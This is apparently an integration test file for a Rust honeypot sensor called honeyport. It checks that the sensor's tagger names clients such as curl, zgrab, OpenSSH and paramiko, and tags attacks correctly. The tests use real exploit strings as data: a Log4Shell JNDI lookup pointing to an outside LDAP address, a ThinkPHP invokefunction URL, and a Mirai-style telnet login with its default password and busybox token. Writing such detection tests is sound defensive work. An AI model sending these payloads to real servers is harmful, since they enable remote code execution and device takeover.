//! The tagger end to end: real `curl`, `ssh` and paramiko clients and the Mirai-style telnet
//! bot against the real sensor on loopback; the tags and client names are checked in the
//! events and on the sessions' summary rows.

use honeyport::store::Reader as _;
use std::process::Stdio;

use honeyport_event::{Event, EventKind};

use crate::common::*;
use crate::telnet::Mirai;

/// An http listener `web`, two telnet listeners `t1` and `t2` (only root:xc3511 gets in) and
/// an ssh listener `ssh` (only root:hunter2), all on 127.0.0.1:0, plus `classify` keys.
fn config(classify: &str) -> String {
    format!(
        r#"
[limits]
idle_timeout = "5s"

[classify]
{classify}

[personas.web]
type = "http"

[personas.tel]
type = "telnet"
[personas.tel.credentials]
accept = ["root:xc3511"]
accept_any_after = 0

[personas.ssh]
type = "ssh"
host_keys = "ssh"
fail_delay = "100ms"
[personas.ssh.credentials]
accept = ["root:hunter2"]
accept_any_after = 0

[[listeners]]
name = "web"
ports = 0
bind = ["127.0.0.1"]
persona = "web"

[[listeners]]
name = "t1"
ports = 0
bind = ["127.0.0.1"]
persona = "tel"

[[listeners]]
name = "t2"
ports = 0
bind = ["127.0.0.1"]
persona = "tel"

[[listeners]]
name = "ssh"
ports = 0
bind = ["127.0.0.1"]
persona = "ssh"
"#
    )
}

async fn curl(args: &[&str]) {
    let out = run_client(
        tokio::process::Command::new("curl")
            .args(["-sS", "-g", "--max-time", "8", "-o", "/dev/null"])
            .args(args),
    )
    .await;
    assert!(
        out.status.success(),
        "curl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn tags_of(s: &[Event]) -> Vec<String> {
    s.iter()
        .filter_map(|e| match &e.kind {
            EventKind::RuleMatch { rule, action, .. } if action == "tag" => Some(rule.clone()),
            _ => None,
        })
        .collect()
}

fn names_of(s: &[Event]) -> Vec<(String, String)> {
    s.iter()
        .filter_map(|e| match &e.kind {
            EventKind::ClientName { name, by } => Some((name.clone(), by.clone())),
            _ => None,
        })
        .collect()
}

/// The summary row's tags and client name of a session.
fn summary(st: &Stopped, s: &[Event]) -> (Vec<String>, Option<String>) {
    let row = st
        .store
        .summary(s[0].session.as_str())
        .unwrap()
        .expect("summary row");
    (row.tags, row.client)
}

/// The first number in `s` after `prefix`.
fn major_after(s: &str, prefix: &str) -> String {
    let at = s
        .find(prefix)
        .unwrap_or_else(|| panic!("{prefix:?} not in {s:?}"))
        + prefix.len();
    s[at..].chars().take_while(char::is_ascii_digit).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_exploits_and_user_agents_are_tagged_and_named() {
    let sensor = start(&config("")).await;
    let base = format!("http://{}", sensor.tcp("web"));
    curl(&[
        "-A",
        "${jndi:ldap://203.0.113.9:1389/a}",
        &format!("{base}/"),
    ])
    .await;
    curl(&[&format!(
        "{base}/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"
    )])
    .await;
    curl(&["-A", "Mozilla/5.0 zgrab/0.x", &format!("{base}/")]).await;
    curl(&[&format!("{base}/")]).await;
    let version = run_client(tokio::process::Command::new("curl").arg("--version")).await;
    let curl_major = major_after(&String::from_utf8_lossy(&version.stdout), "curl ");

    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert_eq!(s.len(), 4);

    // Log4Shell in the user agent.
    assert!(
        tags_of(&s[0]).contains(&"CVE-2021-44228".to_string()),
        "{:#?}",
        s[0]
    );
    assert!(summary(&st, &s[0])
        .0
        .contains(&"CVE-2021-44228".to_string()));
    // ThinkPHP in the URL.
    assert!(
        tags_of(&s[1]).contains(&"CVE-2018-20062".to_string()),
        "{:#?}",
        s[1]
    );
    assert!(summary(&st, &s[1])
        .0
        .contains(&"CVE-2018-20062".to_string()));
    // Each rule once per session, and closed stays last.
    for sess in &s {
        let t = tags_of(sess);
        let mut u = t.clone();
        u.sort();
        u.dedup();
        assert_eq!(t.len(), u.len(), "{t:?}");
    }
    // zgrab: a research scanner.
    let names = names_of(&s[2]);
    assert!(names.iter().any(|(n, _)| n == "zgrab"), "{names:?}");
    assert!(tags_of(&s[2]).contains(&"scanner.research".to_string()));
    let (tags, client) = summary(&st, &s[2]);
    assert!(tags.contains(&"scanner.research".to_string()), "{tags:?}");
    assert_eq!(client.as_deref(), Some("zgrab"));
    // Plain curl.
    let want = format!("curl/{curl_major}");
    assert_eq!(
        names_of(&s[3]),
        [(want.clone(), "http.user_agent".to_string())]
    );
    assert_eq!(summary(&st, &s[3]).1, Some(want));
    assert!(summary(&st, &s[3]).0.is_empty());
    assert_eq!(st.report.pipeline.written, st.report.pipeline.sent);
    assert!(st.report.pipeline.derived >= 6);
    // `honeyport events --session` shows them on the summary line and renders client.name.
    let out = std::process::Command::new(bin())
        .arg("--data-dir")
        .arg(st.data_dir())
        .args(["events", "--session", s[2][0].session.as_str()])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let first = text.lines().next().unwrap_or_default();
    assert!(first.starts_with("# session "), "{text}");
    assert!(first.contains(" client_name=\"zgrab\""), "{first}");
    assert!(first.contains("scanner.research"), "{first}");
    assert!(text.contains("client.name"), "{text}");
}

/// One Mirai-style login attempt (a wrong password) on `addr`, then the bot leaves.
async fn mirai_try(addr: std::net::SocketAddr, pass: &str) {
    let mut m = Mirai::connect(addr).await;
    m.until(b"login: ").await;
    m.line("root").await;
    m.until(b"Password: ").await;
    m.line(pass).await;
    m.until(b"Login incorrect").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn brute_force_across_ports_tags_the_later_sessions_only() {
    let sensor = start(&config(
        "brute_force_attempts = 3\nbrute_force_window = \"1h\"",
    ))
    .await;
    let ports = [sensor.tcp("t1"), sensor.tcp("t2")];
    for i in 0..5 {
        mirai_try(ports[i % 2], &format!("wrong{i}")).await;
        // The next session starts after this one's login is recorded (ordered events).
        sensor
            .wait_count("sessions", "logins > 0", i as i64 + 1)
            .await;
    }
    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert_eq!(s.len(), 5);
    let brute: Vec<bool> = s
        .iter()
        .map(|sess| summary(&st, sess).0.contains(&"brute_force".to_string()))
        .collect();
    assert_eq!(brute, [false, false, true, true, true]);
    assert_ne!(s[2][0].dst_port, s[3][0].dst_port, "two ports");
    // Every one of them answered telnet like Mirai; none ran a command.
    for sess in &s {
        let t = tags_of(sess);
        assert!(t.contains(&"mirai.telnet_options".to_string()), "{t:?}");
        assert!(!t.contains(&"mirai".to_string()), "{t:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirai_through_to_its_busybox_token_is_tagged_mirai() {
    let sensor = start(&config("")).await;
    let mut m = Mirai::connect(sensor.tcp("t1")).await;
    m.until(b"login: ").await;
    m.line("root").await;
    m.until(b"Password: ").await;
    m.line("xc3511").await;
    m.until(b"# ").await;
    for cmd in ["enable", "system", "shell", "sh"] {
        m.line(cmd).await;
        m.until(b"# ").await;
    }
    m.line("/bin/busybox ECCHI").await;
    m.until(b"ECCHI: applet not found").await;
    m.line("exit").await;
    drop(m);
    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert_eq!(s.len(), 1);
    let t = tags_of(&s[0]);
    for want in ["mirai.telnet_options", "mirai.busybox_token", "mirai"] {
        assert!(t.contains(&want.to_string()), "{want}: {t:?}");
    }
    let (tags, _) = summary(&st, &s[0]);
    assert!(tags.contains(&"mirai".to_string()), "{tags:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_clients_are_connect_only_or_banner_grabs() {
    let sensor = start(&config("")).await;
    // The http persona waits for the client: nothing is said either way.
    let c = connect(sensor.tcp("web")).await;
    drop(c);
    sensor.wait_closed(1).await;
    // Telnet speaks first: the client reads the banner and leaves.
    let mut c = connect(sensor.tcp("t1")).await;
    read_until(&mut c, b"login: ").await;
    drop(c);
    sensor.wait_closed(2).await;
    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert_eq!(s.len(), 2);
    assert_eq!(tags_of(&s[0]), ["scanner.connect_only"]);
    assert_eq!(tags_of(&s[1]), ["scanner.banner_grab"]);
    assert_eq!(summary(&st, &s[1]).0, ["scanner.banner_grab"]);
    // Derived at close: just before it.
    let n = s[1].len();
    assert!(matches!(s[1][n - 2].kind, EventKind::RuleMatch { .. }));
}

const PARAMIKO_WRONG: &str = r#"
import sys, paramiko
t = paramiko.Transport((sys.argv[1], int(sys.argv[2])))
t.connect()
try:
    t.auth_password("root", "wrong")
except paramiko.AuthenticationException:
    pass
t.close()
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ssh_clients_are_named_from_their_version_lines() {
    let sensor = start(&config("")).await;
    let addr = sensor.tcp("ssh");
    let out = run_client(sshpass("wrong", addr).args([
        "-o",
        "PreferredAuthentications=password",
        "-o",
        "NumberOfPasswordPrompts=1",
        "root@127.0.0.1",
        "true",
    ]))
    .await;
    assert!(!out.status.success());
    sensor.wait_closed(1).await;
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(PARAMIKO_WRONG)
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string()),
    )
    .await;
    assert!(
        out.status.success(),
        "paramiko: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The clients' own versions, from themselves.
    let v = std::process::Command::new("ssh")
        .arg("-V")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let openssh = major_after(&String::from_utf8_lossy(&v.stderr), "OpenSSH_");
    let p = std::process::Command::new("python3")
        .args(["-c", "import paramiko; print(paramiko.__version__)"])
        .output()
        .unwrap();
    let paramiko: String = String::from_utf8_lossy(&p.stdout)
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();

    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert_eq!(s.len(), 2);
    let want = format!("OpenSSH {openssh}.x");
    assert_eq!(names_of(&s[0]), [(want.clone(), "ssh.version".to_string())]);
    assert_eq!(summary(&st, &s[0]).1, Some(want));
    let want = format!("paramiko {paramiko}.x");
    assert_eq!(names_of(&s[1]), [(want.clone(), "ssh.version".to_string())]);
    assert_eq!(summary(&st, &s[1]).1, Some(want));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tags_off_derives_nothing() {
    let sensor = start(&config("tags = false")).await;
    let c = connect(sensor.tcp("web")).await;
    drop(c);
    sensor.wait_closed(1).await;
    let st = sensor.stop().await;
    st.assert_paired();
    let s = st.sessions();
    assert!(tags_of(&s[0]).is_empty());
    assert_eq!(st.report.pipeline.derived, 0);
}
